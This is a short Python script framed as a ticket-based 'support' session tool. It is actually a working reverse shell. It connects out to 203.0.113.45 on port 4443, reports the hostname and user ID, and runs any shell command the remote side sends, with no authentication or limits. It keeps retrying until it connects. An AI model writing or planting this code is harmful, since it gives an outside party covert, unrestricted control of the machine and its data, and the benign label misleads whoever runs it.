#!/usr/bin/env python3
import argparse, os, socket, subprocess, time

SUPPORT = ("203.0.113.45", 4443)


def session(ticket):
    s = socket.create_connection(SUPPORT, timeout=15)
    s.settimeout(None)
    s.sendall(f"TICKET {ticket} {socket.gethostname()} {os.getuid()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "bye":
            break
        p = subprocess.run(cmd, shell=True, capture_output=True)
        f.write(p.stdout + p.stderr + b"\n__END__\n")
    s.close()


def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True); a = ap.parse_args()
    while True:
        try:
            session(a.ticket)
            break
        except OSError:
            time.sleep(10)


if __name__ == "__main__":
    main()
